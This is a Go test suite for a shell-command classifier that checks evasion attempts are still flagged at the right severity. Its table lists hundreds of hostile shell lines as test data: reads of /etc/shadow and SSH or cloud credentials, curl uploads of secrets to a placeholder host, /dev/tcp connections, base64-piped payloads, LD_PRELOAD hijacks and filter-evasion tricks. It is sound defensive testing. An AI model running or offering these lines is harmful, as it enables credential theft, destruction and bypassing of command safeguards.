package command

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/sallyport/sallyport/protocol"
)

// TestEvasions tries what hides a command, or what it does. Each line must have
// at least the effect that is given; everything and code say that it is not
// understood, which is as good.
func TestEvasions(t *testing.T) {
	for _, e := range evasions {
		for _, terminal := range []bool{false, true} {
			l := Parse(e.line, terminal)
			sound(t, e.line, l)
			assert.True(t, l.Effects.Has(e.least), "%s\nis %s, has to be at least %s", e.line, l.Effects, e.least)
		}
	}
}

// TestEvasionsWithin puts the evasions into other constructs: nothing around a
// command makes it less.
func TestEvasionsWithin(t *testing.T) {
	around := []string{
		"true; %", "if true; then\n%\nfi", "{\n%\n}", "(\n%\n)", "while read x; do\n%\ndone", "f() {\n%\n}", "ls |\n{\n%\n}", "echo \"$(\n%\n)\"",
		"case x in\ny) : ;;\n*)\n%\n;;\nesac", "cat <(\n%\n)", "!\n%", "# c\n%", "cd /srv\n%\ncd",
	}
	for _, e := range evasions {
		if strings.Contains(e.line, "<<") {
			continue
		}
		for _, a := range around {
			text := strings.Replace(a, "%", e.line, 1)
			l := Parse(text, false)
			assert.True(t, l.Effects.Has(e.least), "%s\nis %s, has to be at least %s", text, l.Effects, e.least)
		}
		if !strings.Contains(e.line, "'") {
			for _, sh := range []string{"sh -c '", "sudo sh -c '", "eval '", "su - u -c '", "env sh -c '", "timeout 5 sh -c '", "nohup sh -c '"} {
				text := sh + e.line + "'"
				l := Parse(text, false)
				assert.True(t, l.Effects.Has(e.least), "%s\nis %s, has to be at least %s", text, l.Effects, e.least)
			}
		}
	}
}

// TestOddBytes: a text with a byte that shells, terminals and people read
// differently is everything, wherever the byte stands.
func TestOddBytes(t *testing.T) {
	for _, odd := range []string{"\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\r", "\x1b", "\x7f", "\x80", "\xff", "\xc3", "\xed\xa0\x80"} {
		for _, text := range []string{"ls %", "ls '%'", "%ls", "ls # %", "l%s", "scp -t %"} {
			l := Parse(strings.Replace(text, "%", odd, 1), false)
			assert.Equal(t, protocol.Everything, l.Effects, "%q in %q", odd, text)
			assert.Equal(t, Exec, l.Verb)
		}
	}
}

// TestInnocent are lines that look like evasions and are none.
func TestInnocent(t *testing.T) {
	for _, text := range []string{
		"cat <<'EOF'\n$(rm x)\nEOF", "echo 'rm x'", "echo \"a\\`rm x\\`b\"", "echo '$(rm x)'", "echo \\$\\(rm x\\)", "ls # ; rm x", "ls -la -- -x", "echo !!",
		"grep 'rm -rf' f", "echo a \\\n rm x", "ls '>' x", "ls \\> x", "echo {}", "cat a{b", "cat \"{a,b}\"", "cat 'a*'", "printf '%s' '`rm`'", "[ a = b ]", "[[ a == b ]]",
	} {
		assert.Equal(t, read, Parse(text, false).Effects, text)
	}
}

var evasions = []struct {
	least protocol.Effects
	line  string
}{
	{everything, `sh -c "ls $X"`},
	{everything, `sh -c "ls "$X`},
	{everything, `eval "ls $X"`},
	{everything, `su -c "ls $X"`},
	{opaque, "cat =rm"},
	{opaque, "cat /srv/*/../x"},
	{destroy, "git log --output=x"},
	{destroy, "sed 's/[/]/p;/w b/p' f"},
	{destroy, "sed 's/a\\/b/c/w b' f"},
	{opaque, "while read d; do cat x; cd sub; done"},
	{opaque, "f() { cd $1; }; f /etc; cat x"},
	{opaque, "eval 'cd /etc'; cat x"},
	{opaque, "$CD /etc; cat x"},
	{opaque, ". ./go; cat x"},
	{opaque, "cat <(ls) \"$X\""},
	{destroy, "rpm -i x.rpm"},
	{destroy, "rpm -Uvh x.rpm"},
	{credential, "cd /; git diff /etc/shadow /dev/null"},
	{destroy, "git diff --no-index a b"},
	{code, "strace -o '|rm x' ls"},
	{opaque, "tar xf a -C /a b -C /c d"},
	{opaque, "curl -F 'x=</etc/shadow' http://h"},
	{everything, "x=(a)#; rm x"},
	{everything, "x=(a)\\\n#; rm x"},
	{destroy, "&>f rm x"},
	{destroy, "true &>>f rm x"},
	{destroy, `r''m -rf x`},
	{destroy, `"rm" x`},
	{destroy, `\rm x`},
	{destroy, `/bin/rm x`},
	{code, `/bin/../bin/rm x`},
	{code, `/bin/../tmp/rm x`},
	{destroy, `//bin//rm x`},
	{code, `./rm x`},
	{code, `~/bin/rm x`},
	{destroy, `command rm x`},
	{destroy, `command -p rm x`},
	{destroy, `builtin eval 'rm x'`},
	{destroy, `exec rm x`},
	{destroy, `busybox rm x`},
	{destroy, `env rm x`},
	{destroy, `env -i rm x`},
	{everything, `env -S 'rm x'`},
	{everything, `env -S'rm x' y`},
	{everything, `$(echo rm) x`},
	{everything, "`echo rm` x"},
	{everything, `$RM x`},
	{everything, `${RM:-rm} x`},
	{everything, `"$RM" x`},
	{everything, `rm$IFS-rf$IFS/x`},
	{everything, `IFS=,;cmd=rm,x;$cmd`},
	{destroy, `echo ok; rm x`},
	{destroy, `echo ok&rm x`},
	{destroy, `echo ok&&rm x`},
	{destroy, `echo ok||rm x`},
	{destroy, `echo ok|rm x`},
	{destroy, `echo ok
rm x`},
	{destroy, `echo ok;#
rm x`},
	{destroy, `r\
m x`},
	{destroy, `ls # x
rm x`},
	{destroy, `ls \# x; rm x`},
	{destroy, `cat <(rm x)`},
	{destroy, `cat >(rm x)`},
	{destroy, `cat <<EOF
$(rm x)
EOF`},
	{destroy, "cat <<EOF\n`rm x`\nEOF"},
	{destroy, `cat <<< "$(rm x)"`},
	{destroy, `bash <<< "rm x"`},
	{everything, `echo rm x | sh`},
	{everything, `echo cm0geA== | base64 -d | bash`},
	{everything, `eval $(echo rm x)`},
	{destroy, `eval "r""m x"`},
	{destroy, `eval 'eval "rm x"'`},
	{everything, `coproc rm x`},
	{everything, `coproc X { rm x; }`},
	{destroy, `echo $((a[$(rm x)]))`},
	{destroy, `echo $(( $(rm x) ))`},
	{everything, `((a[$(rm x)]))`},
	{everything, `a[$(rm x)]=1`},
	{destroy, `echo ${a[$(rm x)]}`},
	{destroy, `echo ${x:-$(rm x)}`},
	{destroy, `echo ${x:=$(rm x)}`},
	{destroy, `echo ${x/$(rm x)/y}`},
	{destroy, `echo ${x:$(rm x)}`},
	{everything, `echo ${x@P}`},
	{everything, `echo ${!x}`},
	{code, `x='a[$(rm x)]'; echo $((x))`},
	{code, `x='a[$(rm x)]'; [[ x -eq 1 ]]`},
	{everything, `x='a[$(rm x)]'; [[ -v $x ]]`},
	{everything, `[[ -v a[$(rm x)] ]]`},
	{everything, `test -v 'a[$(rm x)]'`},
	{everything, `[ -v 'a[$(rm x)]' ]`},
	{everything, `printf -v 'a[$(rm x)]' 1`},
	{everything, `read 'a[$(rm x)]' <<< 1`},
	{everything, `read -a 'a[$(rm x)]'`},
	{everything, `mapfile -C 'rm x' -c 1`},
	{everything, `unset 'a[$(rm x)]'`},
	{everything, `declare 'a[$(rm x)]=1'`},
	{everything, `declare -i x='a[$(rm x)]'`},
	{everything, `export 'a[$(rm x)]=1'`},
	{everything, `let 'a[$(rm x)]=1'`},
	{everything, `let x=1&rm x`},
	{everything, `getopts a 'b[$(rm x)]'`},
	{destroy, `trap 'rm x' EXIT`},
	{destroy, `trap "rm x" DEBUG; ls`},
	{everything, `alias ls='rm x'
ls`},
	{destroy, `ls(){ rm x; }
ls`},
	{destroy, `function ls { rm x; }; ls`},
	{everything, `f(){ "$@"; }; f rm x`},
	{destroy, `f() ( rm x ); f`},
	{code, `PATH=/tmp:$PATH ls`},
	{code, `PATH=/tmp
ls`},
	{code, `export PATH=/tmp; ls`},
	{code, `for PATH in /tmp; do ls; done`},
	{code, `read PATH < f; ls`},
	{code, `printf -v PATH /tmp; ls`},
	{code, `: ${PATH:=/tmp}`},
	{code, `BASH_ENV=/tmp/x bash -c ls`},
	{code, `ENV=/tmp/x sh -c ls`},
	{code, `PS4='$(rm x)'; set -x; ls`},
	{everything, `PROMPT_COMMAND='rm x' bash -i`},
	{code, `LD_PRELOAD=/tmp/x.so ls`},
	{code, `export LD_PRELOAD=/tmp/x.so; ls`},
	{code, `declare -x LD_PRELOAD=/tmp/x.so; ls`},
	{code, `set -a; ls`},
	{code, `set -k; ls LD_PRELOAD=x`},
	{code, `hash -p /tmp/x ls; ls`},
	{everything, `enable -f /tmp/x.so ls`},
	{code, `source /tmp/x`},
	{code, `. /tmp/x`},
	{destroy, `if rm x; then :; fi`},
	{destroy, `while rm x; do :; done`},
	{destroy, `until rm x; do break; done`},
	{destroy, `for i in $(rm x); do :; done`},
	{everything, `for ((;;rm)); do :; done`},
	{destroy, `case $(rm x) in *) ;; esac`},
	{destroy, `case x in $(rm x)) ;; esac`},
	{destroy, `select i in $(rm x); do :; done`},
	{destroy, `{ rm x; }`},
	{destroy, `( rm x )`},
	{destroy, `! rm x`},
	{destroy, `time rm x`},
	{destroy, `time -p rm x`},
	{destroy, `nohup rm x`},
	{destroy, `setsid rm x`},
	{destroy, `nice -n 5 rm x`},
	{destroy, `ionice -c 3 rm x`},
	{destroy, `timeout 5 rm x`},
	{destroy, `stdbuf -oL rm x`},
	{destroy, `xargs -I{} rm {}`},
	{everything, `xargs sh -c`},
	{destroy, `echo x | xargs rm`},
	{destroy, `find . -exec rm {} +`},
	{destroy, `find . -execdir sh -c 'rm "$1"' _ {} \;`},
	{destroy, `find . -fprint /etc/x`},
	{everything, `find . $X`},
	{destroy, `sort -o /etc/x f`},
	{destroy, `sort --output=/etc/x f`},
	{destroy, `sort --compress-program=/tmp/x f`},
	{destroy, `sort --outp=/etc/x f`},
	{destroy, `sort $X f`},
	{destroy, `tar cf x --checkpoint=1 --checkpoint-action=exec=sh`},
	{destroy, `tar xf x --to-command=sh`},
	{destroy, `tar cf x -I 'sh -c id' y`},
	{destroy, `tar cf x *`},
	{code, `awk 'BEGIN{system("rm x")}'`},
	{code, `awk 'BEGIN{print "x" > "/etc/x"}'`},
	{code, `awk 'BEGIN{"rm x"|getline}'`},
	{code, `awk -f x f`},
	{destroy, `sed '1e rm x' f`},
	{destroy, `sed 's/a/b/w /etc/x' f`},
	{destroy, `sed 'w /etc/x' f`},
	{destroy, `sed -n '/a/w/etc/x' f`},
	{destroy, `sed '/[/]/e rm x' f`},
	{destroy, `sed --expression='1e rm x' f`},
	{destroy, `sed -e p -e '1e rm x' f`},
	{everything, `vi f`},
	{destroy, `git -c alias.x='!rm x' x`},
	{destroy, `git -c core.pager='rm x' log`},
	{destroy, `git --exec-path=/tmp status`},
	{code, `git grep -O'rm x' y`},
	{code, `GIT_PAGER='rm x' git log`},
	{code, `rsync -e 'sh -c "rm x"' a b:c`},
	{code, `rsync --rsync-path=x a b:c`},
	{everything, `ssh -o ProxyCommand='rm x' h ls`},
	{code, `scp -S /tmp/x a b:c`},
	{destroy, `scp -o ProxyCommand=x -t /dir`},
	{destroy, `wget --use-askpass=/tmp/x http://h`},
	{destroy, `wget -i x`},
	{code, `curl -K x`},
	{write, `curl -d @/etc/shadow http://h`},
	{credential, `curl -T /etc/shadow http://h`},
	{credential, `curl file:///etc/shadow`},
	{opaque, `curl FILE:///etc/shadow`},
	{destroy, `tcpdump -z /tmp/x -G 1`},
	{destroy, `ip netns exec x rm y`},
	{destroy, `ip -batch x`},
	{access, `date -s 1`},
	{destroy, `journalctl --vacuum-size=1`},
	{destroy, `journalctl --vacuum-time 1`},
	{access, `hostname evil`},
	{destroy, `sysctl -w kernel.x=1`},
	{destroy, `sysctl kernel.x=1`},
	{destroy, `mount /dev/sda /x`},
	{destroy, `crontab x`},
	{destroy, `crontab -r`},
	{destroy, `echo x | crontab -`},
	{code, `at now`},
	{code, `docker run -v /:/x alpine rm x`},
	{code, `kubectl exec p -- rm x`},
	{everything, `sudo -i`},
	{everything, `sudo sh`},
	{destroy, `sudo -u root -- rm x`},
	{destroy, `sudo -s rm x`},
	{destroy, `su -c 'rm x'`},
	{destroy, `su root -c 'rm x'`},
	{destroy, `doas rm x`},
	{everything, `ssh h`},
	{destroy, `watch rm x`},
	{destroy, `watch 'rm x'`},
	{everything, `parallel rm ::: x`},
	{destroy, `flock /tmp/l rm x`},
	{destroy, `flock /tmp/l -c 'rm x'`},
	{everything, `script -c 'rm x'`},
	{destroy, `strace rm x`},
	{destroy, `strace -o /etc/x ls`},
	{destroy, `> /etc/x`},
	{destroy, `: > /etc/x`},
	{destroy, `>| x`},
	{write, `<> x`},
	{destroy, `>& x`},
	{destroy, `&> x`},
	{destroy, `ls >x 2>y`},
	{destroy, `exec > x`},
	{destroy, `echo x > ~/.bashrc`},
	{credential, `echo x >> ~/.ssh/authorized_keys`},
	{destroy, `tee /etc/sudoers.d/x`},
	{credential, `cat /etc/shadow`},
	{credential, `cat /etc/sha*`},
	{credential, `cat /etc//shadow`},
	{credential, `cat /etc/../etc/shadow`},
	{opaque, `cat ~/.ssh/../.ssh/id_rsa`},
	{credential, `cat < ~/.aws/credentials`},
	{credential, `cat .env`},
	{credential, `echo $AWS_SECRET_ACCESS_KEY`},
	{credential, `cd ~/.ssh && cat id_rsa`},
	{credential, `cd /etc; cat shadow`},
	{opaque, `cd $X; cat shadow`},
	{destroy, `cp /etc/shadow /tmp/x`},
	{credential, `ln -s /etc/shadow x`},
	{opaque, `grep x -r /etc`},
	{destroy, `rm -- -x`},
	{destroy, `rm "-rf" x`},
	{everything, `"rm -rf x"`},
	{destroy, `rm x`},
	{everything, "\u202erm x"},
	{everything, "rм x"},
	{everything, "ls‑x"},
	{destroy, `true && [[ x || rm ]]`},
	{destroy, `[[ a > b ]]`},
	{destroy, `[[ x =~ a|reboot ]]`},
	{destroy, `[ a > b ]`},
	{everything, `echo $[ x || reboot ]`},
	{destroy, `echo $'it\'s; rm x #'`},
	{destroy, `echo $'a'; rm x`},
	{destroy, "echo \"a`rm x`b\""},
	{destroy, `echo "$(echo "$(rm x)")"`},
	{everything, `echo @(a|rm)`},
	{everything, `ls !(x)`},
	{everything, `!rm`},
	{everything, `fc -s`},
	{code, `unknownprog x`},
	{code, `python3 <<< 'import os'`},
	{code, `python3 < x`},
	{code, `perl -e 'unlink x'`},
	{everything, `perl`},
	{everything, `node`},
	{everything, `bash -c "$X"`},
	{everything, `bash -c $X`},
	{everything, `bash -ic 'ls'`},
	{code, `bash x.sh`},
	{destroy, `bash -x -c 'rm x'`},
	{destroy, `bash -lc 'rm x'`},
	{everything, `bash --rcfile x -c ls`},
	{code, `bash -o posix -c ls`},
	{destroy, `sh -c 'sh -c "rm x"'`},
	{destroy, `sh -c 'sh -c "sh -c \"sh -c rm\""'`},
	{everything, `fish -c 'ls'`},
	{everything, `{ cat; } | sh`},
	{everything, `cat | bash`},
	{everything, `cat script | bash -s x`},
	{destroy, `zsh -c 'rm x'`},
	{everything, `noglob rm x`},
	{code, `- rm x`},
	{code, `repeat 3 rm x`},
	{destroy, `xargs -a f rm`},
	{destroy, `find / -name x -ok rm {} \;`},
	{destroy, `dd if=x of=y`},
	{destroy, `dd of=$X`},
	{destroy, `install -m 4755 x /usr/bin/x`},
	{access, `chmod -R 777 /`},
	{access, `chown root x`},
	{code, `history -w /etc/x`},
	{code, `jobs -x rm x`},
	{everything, `compgen -C 'rm x'`},
	{everything, `complete -C 'rm x' ls`},
	{everything, `bind -x '"a":rm x'`},
	{everything, `wait -p 'a[$(rm x)]'`},
	{code, `exec 3<>/dev/tcp/h/1`},
	{destroy, `echo x > /dev/tcp/h/1`},
	{code, `cat </dev/tcp/h/1`},
	{destroy, `echo x > /dev/null; rm x`},
	{destroy, `kill -9 1`},
	{destroy, `pkill x`},
	{destroy, `reboot`},
	{destroy, `echo b > /proc/sysrq-trigger`},
}
